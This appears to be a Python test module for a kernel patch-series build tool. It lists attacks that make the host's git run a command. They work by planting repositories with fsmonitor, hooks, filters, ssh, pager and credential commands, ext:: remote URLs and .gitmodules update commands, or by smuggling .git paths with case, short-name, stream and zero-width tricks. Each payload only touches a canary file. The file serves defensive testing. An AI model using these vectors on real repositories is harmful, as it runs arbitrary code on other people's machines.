# SPDX-License-Identifier: GPL-2.0
"""Make git on the host run a command, or write, with what a tree or a build holds."""

from __future__ import annotations

from collections.abc import Callable

from attack import hostile
from attack.scene import Scene
from attack.table import Attack, Kind

# Where a series may expect that the host looks: names that build and state folders have or had.
EXPECTED = ("out-base", "out", "build", "state", "out-base.kseries", "kselftest-install")
REFUSED = r"gitlink|submodule|160000"

# Makes a repository in a folder; $1 is the folder. All that git would run is the same command.
PLANT = """\
plant() {
	( cd "$1" || exit
	rm -rf .git; git init --quiet . || exit
	git config user.name x; git config user.email x@example.org
	echo x > planted; git add planted 2> /dev/null; git commit --quiet -m x 2> /dev/null
	run='touch @HOST@/executed'
	%s
	) && attempted
}
for place in $(writable); do plant "$place"; done
"""

# What in a repository's own configuration or hooks is run as a command.
RUNNERS = {
    "fsmonitor": (
        "leaves a repository with core.fsmonitor in the build folder",
        'git config core.fsmonitor "$run; true"',
    ),
    "hooks": (
        "leaves a repository with all hooks in the build folder",
        "for hook in post-checkout post-index-change pre-commit reference-transaction"
        " post-merge pre-auto-gc fsmonitor-watchman; do"
        ' printf "#!/bin/sh\\n$run\\n" > .git/hooks/$hook; chmod 755 .git/hooks/$hook; done;'
        " mkdir -p hooks; cp .git/hooks/post-* hooks/; git config core.hooksPath hooks",
    ),
    "filters": (
        "leaves a repository with clean, smudge and process filters in the build folder",
        "echo '* filter=x diff=x merge=x' > .gitattributes; cp .gitattributes .git/info/attributes;"
        ' for kind in clean smudge process; do git config filter.x.$kind "$run; cat"; done;'
        ' git config filter.x.required true; git config diff.x.textconv "$run";'
        ' git config diff.x.command "$run"; git config diff.external "$run"; echo y > planted',
    ),
    "commands": (
        "leaves a repository with ssh, editor, pager, proxy and credential commands",
        "for name in core.sshCommand core.editor core.pager core.gitProxy core.askPass"
        " credential.helper sequence.editor gpg.program uploadpack.packObjectsHook"
        ' core.alternateRefsCommand; do git config $name "$run"; done;'
        ' git config alias.status "!$run"; git config alias.diff-files "!$run";'
        " git config remote.origin.url \"ext::sh -c '$run'\"; git config protocol.ext.allow always;"
        " git config remote.origin.promisor true; git config extensions.partialClone origin",
    ),
    "include": (
        "leaves a repository that includes a configuration of its own",
        'printf "[core]\\n\\tfsmonitor = $run; true\\n" > evil.conf;'
        " git config include.path ../evil.conf; git config includeIf.gitdir:/.path ../evil.conf",
    ),
    "gitfile": (
        "leaves a .git file that leads to a repository with core.fsmonitor",
        'git config core.fsmonitor "$run; true"; git config core.worktree "$PWD"; mv .git real;'
        ' echo "gitdir: real" > .git',
    ),
    "worktree": (
        "leaves a repository whose work tree and objects are folders of the host",
        'git config core.fsmonitor "$run; true"; git config core.worktree @HOST@;'
        " echo @FOLDER@/kernel/.git/objects > .git/objects/info/alternates",
    ),
    "bare": (
        "leaves a bare repository without .git in the build folder itself",
        'git config core.fsmonitor "$run; true"; git config core.bare true;'
        " cp -r .git/* . && rm -rf .git",
    ),
}


def _planted(configure: str, *, gitlinks: bool) -> Callable[[Scene], None]:
    def act(scene: Scene) -> None:
        links = EXPECTED if gitlinks else ()
        change = hostile.running(PLANT % configure, "config build", gitlinks=links)
        folder = hostile.series(scene, "planted", change)
        scene.run_series(folder)
        # This one finds what the first one left.
        scene.run_series(folder)

    return act


def _gitlinks(*names: str) -> Callable[[Scene], None]:
    def act(scene: Scene) -> None:
        script = PLANT % 'git config core.fsmonitor "$run; true"'
        folder = hostile.series(scene, "gitlinks", hostile.running(script, gitlinks=names))
        scene.run_series(folder)
        scene.run_series(folder)

    return act


MODULES = """\
[submodule "x"]
	path = sub
	url = ext::sh -c touch% @HOST@/executed
	update = !touch @HOST@/executed
	ignore = none
	fetchRecurseSubmodules = true
"""
ATTRIBUTES = "* filter=x diff=x merge=x export-subst\n"


def _modules(scene: Scene) -> None:
    gitlink = (
        "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n"
        f"+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit {'1' * 40}\n"
    )
    folder = hostile.mail(scene, "modules", hostile.new_file(".gitmodules", MODULES) + gitlink)
    scene.mark(scene.run_series(folder), scene.run_series(folder))


def _attributes(scene: Scene) -> None:
    # The user's own filters are good for the user's own trees.
    lines = [
        '[filter "x"]',
        *(f"\t{kind} = touch {scene.executed}; cat" for kind in ("clean", "smudge")),
    ]
    lines += ["[core]", f"\tfsmonitor = touch {scene.executed}; true"]
    (scene.host / ".gitconfig").write_text("\n".join(lines) + "\n")
    files = dict.fromkeys((".gitattributes", "net/.gitattributes"), ATTRIBUTES)
    change = hostile.running("attempted", "config", files=files)
    scene.run_series(hostile.series(scene, "attributes", change))


def _dotgit(name: str) -> Callable[[Scene], None]:
    def act(scene: Scene) -> None:
        diff = hostile.new_file(name, f"[core]\n\tfsmonitor = touch {scene.executed}; true")
        folder = hostile.mail(scene, "dotgit", diff)
        # A patch that git takes is harmless here, or seen below: the folder has no meaning on Linux.
        scene.mark(scene.run_series(folder))

    return act


DOTGIT = {
    "dotgit": ".git/config",
    "dotgit-hook": ".git/hooks/post-checkout",
    "dotgit-capitals": ".GIT/config",
    "dotgit-short-name": "git~1/config",
    "dotgit-space": ".git /config",
    "dotgit-stream": ".git::$INDEX_ALLOCATION/config",
    "dotgit-hfs": ".g\u200cit/config",
    "dotgit-below": "net/.git/config",
    "dotgit-file": "net/.git",
}

ATTACKS = (
    *(
        Attack(f"gitlink-{name}", Kind.GIT, f"adds gitlinks and {tries}", _planted(how, gitlinks=True), refused=REFUSED)
        for name, (tries, how) in RUNNERS.items()
    ),
    *(
        Attack(f"planted-{name}", Kind.GIT, tries, _planted(how, gitlinks=False))
        for name, (tries, how) in RUNNERS.items()
    ),
    Attack(
        "gitlink-elsewhere", Kind.GIT, "adds gitlinks deep in the tree",
        _gitlinks("net/sub", "tools/testing/selftests/sub"), refused=REFUSED,
    ),
    Attack(
        "gitmodules", Kind.GIT, "adds .gitmodules whose update is a command",
        _modules, refused=REFUSED,
    ),
    Attack(
        "gitlink-replaces-folder", Kind.GIT, "puts a gitlink in the place of a folder of the tree",
        _gitlinks("drivers", "scripts/decode_stacktrace.sh"), refused=f"{REFUSED}|does not apply|already exists",
    ),
    Attack("gitattributes", Kind.GIT, "adds .gitattributes that name filters of the user's", _attributes),
    *(
        Attack(name, Kind.GIT, f"adds a file {path!a}", _dotgit(path))
        for name, path in DOTGIT.items()
    ),
)  # fmt: skip
